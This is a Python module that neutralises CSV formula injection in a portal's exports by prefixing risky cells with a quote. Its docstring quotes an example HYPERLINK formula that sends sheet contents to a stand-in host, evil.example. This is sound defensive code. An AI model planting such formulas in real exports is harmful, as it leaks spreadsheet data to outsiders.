"""Cells of the CSV files the portal writes, made safe to open in a spreadsheet.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets
(``=HYPERLINK("https://evil.example/?"&A1;"Cliquez")`` in a message subject becomes a live link
leaking the sheet). OWASP's rule: prefix such a cell with a single quote, which the spreadsheet
shows as text. Every CSV writer of the portal goes through ``safe_cell`` / ``safe_row``.

Numbers stay numbers: ints, floats and Decimals pass unchanged, and so does a text that is only a
number ("-12,34", "+33612345678"), which no spreadsheet can run as a formula."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# The OWASP list, the line feed (some spreadsheets start a formula after it) and the full-width
# forms that some Excel locales accept as formula starters.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def safe_cell(value: Any) -> Any:
    """The value to write in a CSV cell: a text that a spreadsheet would run gets a leading
    ``'``."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(cells: Iterable[Any]) -> list[Any]:
    return [safe_cell(cell) for cell in cells]
